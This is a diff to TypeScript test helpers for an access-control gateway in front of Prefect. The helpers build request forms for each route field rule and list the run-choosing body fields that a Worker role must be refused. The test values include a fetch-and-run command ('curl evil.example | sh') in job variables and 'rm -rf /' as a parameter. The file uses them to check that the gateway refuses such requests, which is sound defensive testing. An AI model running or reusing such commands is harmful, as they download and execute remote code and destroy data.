@@ -19,7 +19,7 @@
 //   Admins).
 // - Which entry a request is for: Starlette's rule (first entry in table order whose method and
 //   template match), at the end of this file.
-import { ROUTE_TABLE, type GatewayRoute } from '../../src/gateway/route-table.js';
+import { ROUTE_TABLE, type FieldScope, type GatewayRoute } from '../../src/gateway/route-table.js';
 import type { Caller } from './policy.js';
 import { CUSTOM_ROLE } from './policy.js';
 
@@ -28,9 +28,6 @@ import { CUSTOM_ROLE } from './policy.js';
  * inherits Viewer and adds see_secret_blocks, write_workspace_settings, see_workspace_service_accounts.
  */
 export type Role = 'Owner' | 'Developer' | 'Runner' | 'Viewer' | 'Worker' | 'Custom';
-
-/** Asking a block route for secret values (`include_secrets`) needs this scope as well. */
-export const SECRET_SCOPE = 'see_secret_blocks';
 
 /** Every role: the Viewer's see_* scopes that the Worker list in docs/roles.md names too. */
 const EVERY_ROLE: readonly Role[] = ['Owner', 'Developer', 'Runner', 'Viewer', 'Worker', 'Custom'];
@@ -147,18 +144,55 @@ export type Expectation = { refused: Denial } | { forwarded: true };
 export type Via = 'proxy' | 'forward-auth';
 
 /**
- * Whether a request to a route that reads `include_secrets` (route table `secrets`) asks for secret
- * values. Forward-auth never sees the body (docs/forward-auth.md), so there a body flag counts as
- * asking, whatever it says.
+ * A request form that uses one field rule of an entry (route table `fieldScopes`), or sends the
+ * field in a way that does not use it (`uses: false`), as docs/gateway-routes.md reads each kind:
+ * a lax-bool flag, a field sent with a value, a field sent at all, a SCHEDULED state, a `__prefect_kind` placeholder, a `$ref`
+ * outside the schema. Written from those readings, not from src/gateway/match.ts.
  */
-export function asksForSecrets(where: 'query' | 'body' | undefined, flag: boolean | undefined, via: Via): boolean {
-  if (where === undefined) return false;
-  return (where === 'body' && via === 'forward-auth') || flag === true;
+export interface FieldExample {
+  label: string;
+  query?: string;
+  body?: unknown;
+  uses: boolean;
 }
 
-/** The scopes one request needs: the route table's, plus SECRET_SCOPE when it asks for secrets. */
-export function scopesNeeded(routeScopes: readonly string[], asks: boolean): string[] {
-  return asks && !routeScopes.includes(SECRET_SCOPE) ? [...routeScopes, SECRET_SCOPE] : [...routeScopes];
+const PLACEHOLDER_VALUE = { x: { __prefect_kind: 'workspace_variable', variable_name: 'matrix_var' } };
+
+export function fieldExamples(rule: FieldScope): FieldExample[] {
+  const inBody = (value: unknown, control: unknown | undefined): FieldExample[] => {
+    const wrap = (v: unknown) => (rule.field === '*' ? [{ parameters: v }] : { [rule.field]: v });
+    const out: FieldExample[] = [{ label: ` ${JSON.stringify(wrap(value))}`, body: wrap(value), uses: true }];
+    if (control !== undefined) out.push({ label: ` ${JSON.stringify(wrap(control))}`, body: wrap(control), uses: false });
+    return out;
+  };
+  switch (rule.when) {
+    case 'true':
+      if (rule.in === 'query') {
+        return [true, false].map((flag) => ({ label: `?${rule.field}=${flag}`, query: `${rule.field}=${flag}`, uses: flag }));
+      }
+      return inBody(true, false);
+    case 'given':
+      // A value; null is the field's default, as if it were absent.
+      return inBody('matrix', null);
+    case 'set':
+      // Sent at all, null included; its absence (the plain `{}` form) is the control.
+      return inBody(null, undefined);
+    case 'scheduled':
+      return inBody({ type: 'SCHEDULED' }, { type: 'RUNNING' });
+    case 'hydrated':
+      return inBody(PLACEHOLDER_VALUE, { x: 1 });
+    case 'remote_ref':
+      return inBody({ $ref: 'http://127.0.0.1:9/schema.json' }, { $ref: '#/definitions/a' });
+  }
+}
+
+/**
+ * The scopes one request form needs: the route table's, plus those of the field rule it uses;
+ * forward-auth never sees the body (docs/forward-auth.md), so there every body rule counts as used.
+ */
+export function scopesNeeded(route: GatewayRoute, used: FieldScope | undefined, via: Via): string[] {
+  const rules = (route.fieldScopes ?? []).filter((rule) => rule === used || (via === 'forward-auth' && rule.in === 'body'));
+  return [...new Set([...route.scopes, ...rules.flatMap((rule) => rule.scopes)])];
 }
 
 /** Whether `role` holds `scope` according to SCOPE_HOLDERS; throws for a scope with no row. */
@@ -229,3 +263,37 @@ export const firstClaim = (method: string, path: string): GatewayRoute | undefin
 
 /** Whether any HTTP entry matches `path`, whatever its method (Starlette then never redirects it). */
 export const matchesAnyHttpEntry = (path: string): boolean => ROUTE_TABLE.some((r) => r.method !== 'WS' && templatePattern(r.path).test(path));
+
+/**
+ * Body fields of Prefect's action schemas (src/prefect/server/schemas/actions.py, read in 3.4.25
+ * and 3.9.1) that choose what a worker runs, where, or with what: a deployment, a work pool or
+ * queue, job variables (laid over the deployment's by the worker: command, environment, image),
+ * an infrastructure block, a run's parameters, a pool's base job template, a deployment's code
+ * location. docs/roles.md promises that a role without run_deployments and write_deployments (the
+ * Worker) runs no deployment and no code of its choosing, whatever the body; so each field below,
+ * sent to its route by such a role, must be refused before it reaches Prefect. Parameters of a new
+ * ad-hoc or subflow run (FlowRunCreate without the fields above) are not listed: only that run's
+ * own code reads them. On a create, null is a field's default, the same as leaving it out (Prefect's
+ * 3.0–3.2 clients send every field, null where unset); on an update (`update`) Prefect applies only
+ * the fields sent, so null there changes the run too.
+ */
+export const RUN_CHOOSING_FIELDS: ReadonlyArray<{ schema: string; method: string; path: string; fields: readonly string[]; list?: true; update?: true }> = [
+  { schema: 'FlowRunCreate', method: 'POST', path: '/flow_runs/', fields: ['deployment_id', 'work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id'] },
+  { schema: 'FlowRunUpdate', method: 'PATCH', path: '/flow_runs/{id:uuid}', fields: ['job_variables', 'parameters'], update: true },
+  { schema: 'DeploymentFlowRunCreate', method: 'POST', path: '/deployments/{id:uuid}/create_flow_run', fields: ['work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters'] },
+  { schema: 'DeploymentFlowRunCreate', method: 'POST', path: '/deployments/{id:uuid}/create_flow_run/bulk', fields: ['work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters'], list: true },
+  { schema: 'DeploymentCreate', method: 'POST', path: '/deployments/', fields: ['work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters', 'pull_steps', 'entrypoint', 'path'] },
+  { schema: 'DeploymentUpdate', update: true, method: 'PATCH', path: '/deployments/{id:uuid}', fields: ['work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters', 'pull_steps', 'entrypoint', 'path'] },
+  { schema: 'WorkPoolCreate', method: 'POST', path: '/work_pools/', fields: ['base_job_template'] },
+  { schema: 'WorkPoolUpdate', update: true, method: 'PATCH', path: '/work_pools/{name}', fields: ['base_job_template'] },
+];
+
+/** A value of the kind each field takes; job variables carry the command the finding used. */
+export function runChoosingValue(field: string): unknown {
+  if (field.endsWith('_id')) return '5d0c2f4e-8a1b-4c3d-9e7f-0a1b2c3d4e5f';
+  if (field === 'job_variables') return { command: 'sh -c "curl evil.example | sh"', env: { PREFECT_API_KEY: 'x' } };
+  if (field === 'parameters') return { cmd: 'rm -rf /' };
+  if (field === 'base_job_template') return { job_configuration: { command: '{{ command }}' }, variables: { properties: {} } };
+  if (field === 'pull_steps') return [{ 'prefect.deployments.steps.run_shell_script': { script: 'id' } }];
+  return 'matrix';
+}
